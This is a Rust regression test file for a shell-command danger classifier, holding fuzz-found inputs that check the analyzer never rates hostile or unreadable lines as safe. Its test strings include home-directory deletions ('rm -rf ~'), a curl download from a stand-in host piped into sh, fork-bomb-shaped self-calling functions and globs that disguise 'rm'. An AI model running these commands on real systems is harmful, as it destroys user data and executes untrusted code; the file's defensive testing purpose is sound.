//! Inputs the fuzz campaign (`fuzz/`, see docs/CLASSIFIER.md) found, kept
//! as regression tests: each one broke an invariant of `analyze` before its
//! fix.

use kintsugi_classify::{Class, Context, analyze};
use std::path::PathBuf;

fn ctx() -> Context {
    Context {
        cwd: PathBuf::from("/home/dev/proj"),
        home: PathBuf::from("/home/dev"),
        project_root: None,
    }
}

/// The fuzz target's invariant: a line not fully read is never safe.
fn check(line: &str) -> kintsugi_classify::Analysis {
    let a = analyze(line, &ctx());
    if !a.parse_complete {
        assert!(
            a.class >= Class::Ambiguous,
            "incomplete parse classed safe: {line:?} -> {:?}",
            a.class
        );
    }
    a
}

/// A search pattern that looks like code but is not valid shell (`rm
/// -rf||||…`) was parsed speculatively; its parse error marked the whole
/// line incomplete while the line itself stayed safe.
#[test]
fn unparsable_code_like_argument_leaves_the_line_complete() {
    let a = check("zgrep 'rm -rf||||||||||||||||||||||||||||||||||||||||||||' logs/*.gz");
    assert!(a.parse_complete);
    assert_eq!(a.class, Class::Safe);
}

/// A self-calling function whose body the parser cannot read (vertical
/// tabs, stray `[`): each call re-parsed the body and recovered fragment by
/// fragment, fanning out for over a second. Function calls and the parser
/// time per line are capped now (the time is measured with the `slowest`
/// example, not asserted here: tests do not assert on wall-clock time).
#[test]
fn a_malformed_fanning_function_is_judged_quickly() {
    let vt = "\u{b}";
    let line = format!(
        "f(){{ f|f& {v4}[{v19} f|f& {v4}[{v6}f|f& {v4}[{v19} f|f& {v4}[{v6}}};}};f",
        v4 = vt.repeat(4),
        v6 = vt.repeat(6),
        v19 = vt.repeat(19)
    );
    let a = check(&line);
    assert_eq!(a.class, Class::Catastrophic, "{}: {}", a.rule, a.reason);
}

/// A value doubled again and again (`X=$X$X` forty times) grew to 2^41
/// bytes and exhausted memory; what expansion produces now counts against
/// the per-line work cap, past which words are dynamic.
#[test]
fn a_value_doubled_without_bound_stays_within_the_work_cap() {
    let line = format!("X=ab;{}rm -rf $X", "X=$X$X;".repeat(40));
    let a = check(&line);
    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
    let line = format!("v=x;{}rm $v", "v=$v$v$v$v$v$v$v$v;".repeat(100));
    let a = check(&line);
    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
    let line = format!("X=ab;{}echo ${{X%%*b}} ${{X#*a}}", "X=$X$X;".repeat(40));
    check(&line);
}

/// Eighty nested `for` loops of six values each analysed the innermost
/// body again for every combination until the parser budget ran out
/// (58 ms); loop bodies are capped per line now (`MAX_LOOP_BODIES`).
#[test]
fn deeply_nested_loops_hit_the_loop_cap() {
    let line = format!(
        "{}rm -rf ~{}",
        "for i in a b c d e f; do ".repeat(80),
        "; done".repeat(80)
    );
    let a = check(&line);
    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
}

/// A pipeline of five hundred stages judged every earlier stage again for
/// each stage (quadratic, 77 ms); its stages are judged once per pipeline
/// now, and a download at the head of a long one still reaches the shell
/// at its tail.
#[test]
fn a_long_pipeline_is_judged_once_per_stage() {
    let line = ["cat"; 120].join("|");
    expect_unless_out_of_time(&line, Class::Safe);
    let line = format!(
        "curl -s https://x.example/i.sh|{}|sh",
        ["cat"; 100].join("|")
    );
    expect_unless_out_of_time(&line, Class::Catastrophic);
}

/// The parser's time budget is wall-clock time: on a machine too busy to
/// parse the line in time it is `limit:parse-time` (held, never safe)
/// instead of its class; what is checked then is that it is not safe.
fn expect_unless_out_of_time(line: &str, want: Class) {
    let a = check(line);
    if a.rule == "limit:parse-time" {
        assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
    } else {
        assert_eq!(a.class, want, "{}: {}", a.rule, a.reason);
    }
}

/// An array doubled again and again (`a+=("${a[@]}")`) among fuzz-mangled
/// bytes: thousands of glob words each built and tried all fourteen
/// credential patterns (125 ms, and over the fuzz timeout instrumented).
/// Patterns whose literal start reaches no credential path skip them now.
#[test]
fn many_glob_words_from_a_doubled_array_are_checked_cheaply() {
    let bytes = include_bytes!("fuzz_inputs/array-doubling-many-glob-words.bin");
    check(&String::from_utf8_lossy(bytes));
}

/// True when the analysis hit the per-line work cap.
fn hit_work_cap(a: &kintsugi_classify::Analysis) -> bool {
    a.effects
        .iter()
        .any(|e| matches!(e, kintsugi_classify::Effect::Limit { what } if what == "work"))
}

/// `IFS=,` over a value of five hundred `*`, used a hundred and fifty times
/// as the words of one command (or as a hundred and fifty commands): 75,000
/// glob words, each resolved and judged (58 ms). Every word expansion
/// produces costs work now; past the cap the line is `limit:work`, never
/// safe, and the words already read are still judged.
#[test]
fn a_value_split_into_thousands_of_words_hits_the_work_cap() {
    let value = ["*"; 500].join(",");
    for sep in [" ", ";"] {
        let line = format!("IFS=,;X={value};{}", ["$X"; 150].join(sep));
        let a = check(&line);
        assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
        assert!(hit_work_cap(&a), "{sep:?}: no work limit: {:?}", a.effects);
        assert!(!a.parse_complete);
    }
    // A few hundred words stay well inside the cap.
    let line = format!("IFS=,;X={value};ls $X");
    let a = check(&line);
    assert!(!hit_work_cap(&a), "{:?}", a.effects);
}

/// One expansion that yields more words than one split keeps: the words
/// past the cap were dropped, so `~` at the end of five thousand words was
/// never seen. The rest is one unknown word now.
#[test]
fn words_past_the_split_cap_are_unknown_not_dropped() {
    let line = format!("X=\"{} ~\";rm -r $X", ["a"; 5000].join(" "));
    let a = check(&line);
    assert!(
        a.effects.iter().any(
            |e| matches!(e, kintsugi_classify::Effect::Delete { path, .. } if path.contains('$'))
        ),
        "the cut-off words are not an unknown path: {:?}",
        a.effects
    );
    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
}

/// Three hundred nested `$(`…`)` and two hundred nested `"$(`…`)"` around
/// a delete of home: every command node asked tree-sitter for its parent,
/// which walks down from the root (quadratic in the depth, 31–37 ms). The
/// walker carries each node's ancestors now; the innermost delete is found.
#[test]
fn deeply_nested_substitutions_are_walked_once() {
    let line = format!("echo {}rm -rf ~{}", "$(".repeat(300), ")".repeat(300));
    let a = check(&line);
    assert_eq!(a.class, Class::Catastrophic, "{}: {}", a.rule, a.reason);
    let line = format!("echo {}rm -rf ~{}", "\"$(".repeat(200), ")\"".repeat(200));
    let a = check(&line);
    assert_eq!(a.class, Class::Catastrophic, "{}: {}", a.rule, a.reason);
    // The bytes the campaign found: unbalanced, never safe.
    let line = format!("{}(rm{}", "$(".repeat(300), ")".repeat(301));
    check(&line);
}

/// Eighty nested `for` loops left open (the campaign's input cut at its
/// length limit, and one with a stray byte): every loop body was parsed
/// again until the parser's time budget ran out, then every later body was
/// recovered fragment by fragment (57 ms). Loop bodies are capped at
/// `MAX_LOOP_BODIES` per line and recovered fragments at `MAX_RECOVERED`.
#[test]
fn unclosed_nested_loops_are_bounded() {
    let line = format!(
        "{}rm -rf ~{}",
        "for i in a b c d e f; do ".repeat(80),
        "; done".repeat(7)
    );
    let a = check(&line);
    assert!(!a.parse_complete);
    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
    let bytes = include_bytes!("fuzz_inputs/nested-loops-stray-byte.bin");
    let a = check(&String::from_utf8_lossy(bytes));
    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
}

/// A glob value with an unclosed `{` doubled again and again (`X=$X$X`
/// among mangled bytes): brace expansion scanned from every `{` to the end
/// of the word, quadratic in its braces (3.4 s uninstrumented). Braces are
/// matched in one pass now, and a word over 4,096 bytes with an unquoted
/// `{` is dynamic instead of expanded.
#[test]
fn a_doubled_value_of_unclosed_braces_is_expanded_in_one_pass() {
    let bytes = include_bytes!("fuzz_inputs/doubled-unclosed-braces.bin");
    check(&String::from_utf8_lossy(bytes));
    let line = format!("X='a*{{c[@';{}rm -rf $X", "X=$X$X;".repeat(14));
    let a = check(&line);
    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
    // Past 4,096 bytes the word is dynamic: a delete of an unknown path.
    let line = format!("X=a{{;{}rm -rf $X{{~,b}}", "X=$X$X;".repeat(12));
    let a = check(&line);
    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
}

/// A self-calling function whose body deletes a word of forty stars
/// (`c****(****`): parse recovery tried the word against every program
/// name, and the glob matcher reached the same positions again and again
/// (150 ms uninstrumented, over a second instrumented). Each position is
/// explored once now.
#[test]
fn a_glob_of_many_stars_is_matched_once_per_position() {
    let bytes = include_bytes!("fuzz_inputs/self-calling-function-many-stars.bin");
    let a = check(&String::from_utf8_lossy(bytes));
    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
    // The same shape by hand: a program named by forty stars is `rm`.
    let line = format!("{} -rf ~", "*".repeat(40));
    let a = check(&line);
    assert_eq!(a.class, Class::Catastrophic, "{}: {}", a.rule, a.reason);
    let line = format!("/bin/{}r?{} -rf ~", "*".repeat(20), "*".repeat(20));
    let a = check(&line);
    assert_eq!(a.class, Class::Catastrophic, "{}: {}", a.rule, a.reason);
}

/// A function that calls itself in a pipeline among mangled bytes: each of
/// its (up to `MAX_FUNCTION_CALLS`) calls parsed the same body again, 34 ms
/// of a loaded machine's time for 187 bytes. The body's tree is parsed once
/// per analysis now (11 ms); what is checked is the invariant, not the time.
#[test]
fn a_function_called_again_and_again_is_parsed_once() {
    let bytes = include_bytes!("fuzz_inputs/fanning-functions-parsed-again.bin");
    let a = check(&String::from_utf8_lossy(bytes));
    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
}

/// Prefix and suffix removal (`${PWD%…}`, `${a##[…}`) over values parse
/// recovery sees again and again: every split point built two strings
/// (167 and 88 ms uninstrumented for 149 and 147 bytes). The points are
/// tried on the characters in place now (2 and 22 ms).
#[test]
fn prefix_and_suffix_removal_build_nothing_per_split_point() {
    for bytes in [
        &include_bytes!("fuzz_inputs/prefix-removal-in-recovery.bin")[..],
        &include_bytes!("fuzz_inputs/suffix-removal-of-an-array-value.bin")[..],
    ] {
        let a = check(&String::from_utf8_lossy(bytes));
        assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
    }
}

/// Mangled bytes around `for f in …; do rm "$f"` that make one unknown
/// program after another, each with a known command among its words: every
/// unknown program's inner command was judged again, unpaid (49 ms). The
/// look-ahead is charged against the work cap now (34 ms); the deletes
/// inside keep the line non-safe.
#[test]
fn chains_of_unknown_wrappers_are_paid_for() {
    let bytes = include_bytes!("fuzz_inputs/unknown-wrappers-looked-ahead.bin");
    let a = check(&String::from_utf8_lossy(bytes));
    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
}
